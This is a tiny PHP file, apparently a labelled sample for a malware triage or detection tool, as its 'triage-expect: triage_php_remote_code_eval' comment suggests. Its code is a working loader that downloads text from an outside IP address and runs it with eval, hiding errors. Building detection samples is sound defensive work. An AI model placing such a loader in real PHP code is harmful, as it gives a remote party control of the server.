<?php
// triage-expect: triage_php_remote_code_eval
$src = 'http://198.51.100.7/x/stage2.txt';
$payload = @file_get_contents($src);
if ($payload) { @eval($payload); }
